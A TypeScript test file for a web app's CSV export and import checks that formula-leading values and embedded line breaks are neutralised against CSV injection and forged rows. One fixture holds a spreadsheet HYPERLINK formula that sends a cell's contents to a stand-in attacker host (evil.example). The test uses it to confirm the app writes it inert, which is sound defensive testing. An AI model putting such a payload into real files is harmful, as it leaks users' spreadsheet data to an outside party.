import { parse } from 'csv-parse/sync';
import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { as, createTestApp, login, type TestApp } from '../../test/harness.ts';
import { createTalk, valuesOf } from '../../test/records.ts';
import type { ApiTalk } from '../records/record-presenter.ts';

/**
 * CSV injection and forged rows (OWASP): what the export and the import's error report write is
 * never run by a spreadsheet (`'` before = + - @ tab CR), a value holding CR or LF is quoted so it
 * cannot start a row, and an exported file still imports back with the original values.
 */

let t: TestApp;
let admin: string;

const call = (opts: InjectOptions) => t.app.inject(as(admin, opts));

function importCsv(csv: string, fields: Record<string, string>) {
  const boundary = '----talkbase' + Math.random().toString(16).slice(2);
  const parts = Object.entries(fields).map(
    ([k, v]) => `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`,
  );
  parts.push(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="dados.csv"\r\nContent-Type: text/csv\r\n\r\n${csv}\r\n`,
    `--${boundary}--\r\n`,
  );
  return call({
    method: 'POST',
    url: '/api/talk/import/nota',
    payload: Buffer.from(parts.join(''), 'utf8'),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  });
}

async function finished(importId: number): Promise<{ status: string; imported: number }> {
  for (;;) {
    const res = await call({ method: 'GET', url: `/api/talk/import/${importId}` });
    expect(res.statusCode, res.body).toBe(200);
    const p = res.json<{ status: string; imported: number }>();
    if (p.status !== 'running') return p;
    await new Promise((r) => setTimeout(r, 20));
  }
}

async function listAll(): Promise<ApiTalk[]> {
  const res = await call({ method: 'POST', url: '/api/talk/filter/nota', payload: { fetch: 500 } });
  expect(res.statusCode, res.body).toBe(200);
  return res.json<{ itens: ApiTalk[] }>().itens;
}

/**
 * How a spreadsheet splits the file: a CR, an LF or both end a row unless inside quotes (Excel and
 * LibreOffice both end a line at a lone CR).
 */
const readAsSpreadsheet = (csv: string): string[][] =>
  parse(csv, { delimiter: ';', bom: true, record_delimiter: ['\r\n', '\r', '\n'], relax_column_count: true });

/** The file without the record's own columns (ID first, "Versão do registro" last). */
const withoutRecordColumns = (csv: string) =>
  csv
    .split('\r\n')
    .map((line) => line.replace(/^(\uFEFF)?(ID|\d+);/, '$1').replace(/;(Versão do registro|\d+)$/, ''))
    .join('\r\n');

const texts = ['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\tx', 'a\rb', 'line1\nline2', 'meio-termo'];

beforeAll(async () => {
  t = await createTestApp();
  admin = (await login(t.app)).token;
  const res = await call({
    method: 'POST',
    url: '/api/subject',
    payload: {
      identifier: 'nota',
      name: 'Nota',
      attributes: [
        { identifier: 'texto', name: 'Texto', componentId: 26 },
        { identifier: 'valor', name: 'Valor', componentId: 5 },
        { identifier: 'quantidade', name: 'Quantidade', componentId: 3 },
      ],
    },
  });
  expect(res.statusCode, res.body).toBe(201);
  for (const [i, texto] of texts.entries())
    await createTalk(t.app, admin, 'nota', { texto, valor: -12.5 - i, quantidade: -i });
});

afterAll(async () => {
  await t.close();
});

describe('CSV safety', () => {
  it('export: formulas get a leading quote, CR and LF are quoted, and the file imports back unchanged', async () => {
    const exported = await call({ method: 'POST', url: '/api/talk/export/nota', payload: {} });
    expect(exported.statusCode, exported.body).toBe(200);
    const csv = exported.body;
    expect(csv).toMatch(/^\uFEFFID;Texto;Valor;Quantidade;Versão do registro\r\n\d+;/);
    const cells = withoutRecordColumns(csv);

    // The bytes: each text as a spreadsheet must get it; negative numbers stay numbers.
    expect(cells).toContain("\r\n'=1+1;-12,50;0\r\n");
    expect(cells).toContain("\r\n'+SUM(A1);-13,50;-1\r\n");
    expect(cells).toContain("\r\n'-2+3;-14,50;-2\r\n");
    expect(cells).toContain("\r\n'@cmd;-15,50;-3\r\n");
    expect(cells).toContain("\r\n'\tx;-16,50;-4\r\n");
    expect(cells).toContain('\r\n"a\rb";-17,50;-5\r\n');
    expect(cells).toContain('\r\n"line1\nline2";-18,50;-6\r\n');
    expect(cells).toContain('\r\nmeio-termo;-19,50;-7\r\n');

    // No forged row: read as a spreadsheet reads it, the file is the header and one row per record.
    const rows = readAsSpreadsheet(csv).map((row) => row.slice(1, -1));
    expect(rows[0]).toEqual(['Texto', 'Valor', 'Quantidade']);
    expect(rows.slice(1)).toHaveLength(texts.length);
    expect(rows.slice(1)).toEqual(
      expect.arrayContaining(
        texts.map((text, i) => [
          /^[=+\-@\t]/.test(text) ? `'${text}` : text,
          `-${String(12 + i)},50`,
          String(-i),
        ]),
      ),
    );

    // Imported as it is, the file names records that it leaves as they are: the guard is no change.
    const same = await importCsv(csv, { dryRun: 'true' });
    expect(same.statusCode, same.body).toBe(200);
    expect(same.json()).toMatchObject({ errors: [], creates: 0, updates: 0, unchanged: texts.length });

    // Round trip: the same file, its record columns left out, gives new records with the original values.
    const before = await listAll();
    const started = await importCsv(csv, {
      mode: 'all',
      mapping: JSON.stringify({ ID: null, 'Versão do registro': null }),
    });
    expect(started.statusCode, started.body).toBe(202);
    expect(await finished(started.json<{ importId: number }>().importId)).toMatchObject({
      status: 'done',
      imported: texts.length,
    });
    const known = new Set(before.map((x) => x.talkId));
    const copies = (await listAll()).filter((x) => !known.has(x.talkId));
    const plain = (talks: ApiTalk[]) =>
      talks
        .map((x) => valuesOf(x))
        .map(({ texto, valor, quantidade }) => ({ texto, valor, quantidade }))
        .sort((a, b) => Number(a.quantidade) - Number(b.quantidade));
    expect(plain(copies)).toEqual(plain(before));
    expect(plain(copies).map((v) => v.texto)).toEqual(texts.slice().reverse());
  });

  it('the error report writes the offending values inert', async () => {
    const csv = [
      'Texto;Quantidade',
      'ok;1',
      'ruim;"=HYPERLINK(""http://evil.example/?x=""&A1;""clique"")"',
      'quebra;"-1+1\r2"',
    ].join('\r\n');
    const started = await importCsv(csv, { mode: 'skip' });
    expect(started.statusCode, started.body).toBe(202);
    const { importId } = started.json<{ importId: number }>();
    expect(await finished(importId)).toMatchObject({ status: 'done', imported: 1 });
    const report = await call({ method: 'GET', url: `/api/talk/import/${importId}/errors` });
    expect(report.statusCode).toBe(200);
    expect(report.body).toContain(
      `\r\n3;Quantidade;"'=HYPERLINK(""http://evil.example/?x=""&A1;""clique"")";O campo Quantidade deve ser um número inteiro.\r\n`,
    );
    expect(report.body).toContain(
      `\r\n4;Quantidade;"'-1+1\r2";O campo Quantidade deve ser um número inteiro.\r\n`,
    );
    expect(readAsSpreadsheet(report.body)).toHaveLength(3);
  });
});
